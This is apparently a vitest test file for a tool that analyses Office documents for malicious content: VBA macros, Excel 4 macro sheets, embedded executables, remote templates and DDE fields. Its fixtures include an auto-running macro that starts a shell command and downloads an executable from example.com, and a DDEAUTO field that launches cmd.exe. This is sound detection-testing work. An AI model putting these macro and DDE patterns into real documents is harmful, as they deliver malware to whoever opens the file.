import * as fc from "fast-check";
import { expect, test } from "vitest";
import {
  buildDocx,
  buildOle,
  buildOleWithVba,
  buildPe,
  buildXlsx,
  buildZip,
  ByteWriter,
  compressVba,
  noise,
} from "../testing/index.ts";
import { openOle } from "./ole-container.ts";
import { parseOle } from "./parse-ole.ts";
import { parseOoxml } from "./parse-ooxml.ts";
import { decompressVba } from "./vba.ts";

const MACRO =
  'Attribute VB_Name = "Module1"\nSub AutoOpen()\n  Set s = CreateObject("WScript.Shell")\n  s.Run "cmd /c calc"\n  URLDownloadToFile 0, "http://example.com/a.exe", "a.exe", 0, 0\nEnd Sub\n';
const text = (bytes: Uint8Array): string => Buffer.from(bytes).toString("latin1");

test("streams of any size are read back as they were written", () => {
  const streams = {
    small: noise(100),
    "Storage/inner": noise(5000, 2),
    "Storage/Deep/x": noise(64, 3),
    empty: new Uint8Array(0),
    large: noise(300_000, 4),
  };
  const container = openOle(buildOle(streams));
  expect(container?.problems).toEqual([]);
  expect(Object.fromEntries(container?.streams.map((stream) => [stream.path, stream.read()]) ?? [])).toEqual(streams);
});

test("compressed macro text is expanded, also when it fills several chunks", () => {
  for (const source of [MACRO, MACRO.repeat(60), "abc", "", "a".repeat(10_000)])
    expect(text(decompressVba(compressVba(Buffer.from(source)), 1 << 20))).toBe(source);
});

test("expansion stops at the given size", () => {
  expect(decompressVba(compressVba(Buffer.alloc(100_000)), 5000).length).toBe(5000);
});

test("modules of a Word document are read, with what runs by itself and what is suspicious", () => {
  const facts = parseOle(buildOleWithVba({ modules: { Module1: MACRO, ThisDocument: "Option Explicit\n" } }))?.facts;
  expect(facts?.vba?.modules.map(({ name, path }) => [name, path])).toEqual([
    ["Module1", "Macros/VBA/Module1"],
    ["ThisDocument", "Macros/VBA/ThisDocument"],
  ]);
  expect(facts?.vba?.modules[0]?.code).toBe(MACRO);
  expect(facts?.vba?.autoExecution).toEqual(["AutoOpen"]);
  expect(facts?.vba?.keywords.map(({ category }) => category)).toEqual(
    expect.arrayContaining(["auto-execution", "execution", "download"]),
  );
  expect(facts?.vba?.isSourceMissing).toBe(false);
});

test("a project without source is told as such", () => {
  expect(parseOle(buildOleWithVba({ modules: { Module1: "" } }))?.facts.vba?.isSourceMissing).toBe(true);
});

test("Excel 4 macro sheets and passwords are found in the workbook's records", () => {
  const facts = parseOle(
    buildOleWithVba({ kind: "excel", excel4Sheets: { Macro1: 2, Open: 0 }, isEncrypted: true }),
  )?.facts;
  expect(facts).toMatchObject({
    isEncrypted: true,
    excel4Sheets: [
      { name: "Macro1", visibility: "very-hidden" },
      { name: "Open", visibility: "visible" },
    ],
  });
});

test("an embedded package tells its file name and what it is", () => {
  const program = buildPe();
  const native = new ByteWriter()
    .u32(0)
    .u16(2)
    .latin1("a.exe\0C:\\Temp\\a.exe\0")
    .u32(0x30000)
    .u32(6)
    .latin1("a.exe\0")
    .u32(program.length)
    .raw(program)
    .bytes();
  const ole = buildOle({ "ObjectPool/_1/\x01Ole10Native": native, "ObjectPool/_2/Equation Native": noise(50) });
  const expected = {
    className: "Package",
    fileName: "a.exe",
    sourcePath: "C:\\Temp\\a.exe",
    contentType: "pe-exe",
    sizeBytes: program.length,
  };
  expect(parseOle(ole)?.facts).toMatchObject({ embeddedObjects: [expected], hasEquationEditor: true });
  expect(
    parseOoxml(buildDocx({ embeddings: { "oleObject1.bin": ole, "x.exe": program } }))?.facts.embeddedObjects,
  ).toMatchObject([expected, { path: "word/embeddings/x.exe", contentType: "pe-exe" }]);
});

test("a document of today: macros, remote template and DDE", () => {
  const facts = parseOoxml(
    buildDocx({
      macros: { Module1: MACRO },
      remoteTemplate: "http://example.com/t.dotm?a=1&amp;b=2",
      dde: 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
    }),
  )?.facts;
  expect(facts?.vba?.autoExecution).toEqual(["AutoOpen"]);
  expect(facts?.vba?.modules[0]?.path).toBe("word/vbaProject.bin!VBA/Module1");
  expect(facts?.externalRelationships).toEqual([
    { part: "word/_rels/settings.xml.rels", type: "attachedTemplate", target: "http://example.com/t.dotm?a=1&b=2" },
  ]);
  expect(facts?.remoteTemplates).toEqual(["http://example.com/t.dotm?a=1&b=2"]);
  expect(facts?.dde).toEqual(['DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"']);
});

test("a DDE instruction split over runs is joined", () => {
  const xml =
    "<w:document><w:instrText>DDE</w:instrText><w:instrText xml:space='preserve'>AUTO </w:instrText><w:instrText>cmd &quot;/k calc&quot;</w:instrText></w:document>";
  expect(parseOoxml(buildZip([{ name: "word/document.xml", data: xml }]))?.facts.dde).toEqual([
    'DDEAUTO cmd "/k calc"',
  ]);
});

test("a plain document shows nothing", () => {
  expect(parseOoxml(buildDocx())?.facts).toMatchObject({
    externalRelationships: [],
    remoteTemplates: [],
    embeddedObjects: [],
    dde: [],
    excel4Sheets: [],
    activeXCount: 0,
    problems: [],
  });
});

test("Excel 4 macro sheets of a workbook of today are found with their state", () => {
  expect(
    parseOoxml(buildXlsx({ excel4Sheets: { Macro1: "veryHidden", Seen: "visible" } }))?.facts.excel4Sheets,
  ).toEqual([
    { name: "Macro1", visibility: "very-hidden" },
    { name: "Seen", visibility: "visible" },
  ]);
});

test("a part that inflates beyond its limit is left out, with the limit named", () => {
  const parsed = parseOoxml(buildZip([{ name: "word/document.xml", data: new Uint8Array(17 << 20) }]));
  expect(parsed?.limitsReached).toEqual(["MAX_OOXML_PART_BYTES"]);
});

test("chains that loop end, with a word about it", () => {
  const bytes = buildOle({ large: noise(20_000) });
  const view = new DataView(bytes.buffer);
  const fatAt = (view.getUint32(76, true) + 1) * 512;
  view.setUint32(fatAt + 8, 0, true);
  const container = openOle(bytes);
  container?.streams[0]?.read();
  expect(container?.problems).toEqual(["A chain of sectors loops or leaves the file."]);
});

test("mutated and cut documents are read without a throw", () => {
  const seeds = [
    buildOleWithVba({ modules: { A: MACRO } }),
    buildOleWithVba({ kind: "excel", excel4Sheets: { M: 1 } }),
    buildDocx({ macros: { A: MACRO }, remoteTemplate: "http://example.com", embeddings: { "a.bin": noise(50) } }),
  ];
  fc.assert(
    fc.property(
      fc.constantFrom(...seeds),
      fc.array(fc.tuple(fc.nat(8000), fc.nat(255)), { maxLength: 30 }),
      fc.nat(9000),
      (seed, changes, length) => {
        const bytes = seed.slice(0, length < 100 ? seed.length : length);
        for (const [at, value] of changes) if (at < bytes.length && at > 8) bytes[at] = value;
        for (const parse of [parseOle, parseOoxml]) expect(() => parse(bytes), parse.name).not.toThrow();
      },
    ),
    { numRuns: 200 },
  );
});

test("arbitrary bytes expand without a throw", () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 3000 }), (bytes) => {
      expect(decompressVba(Uint8Array.of(1, ...bytes), 50_000).length).toBeLessThanOrEqual(50_000);
    }),
    { numRuns: 100 },
  );
});
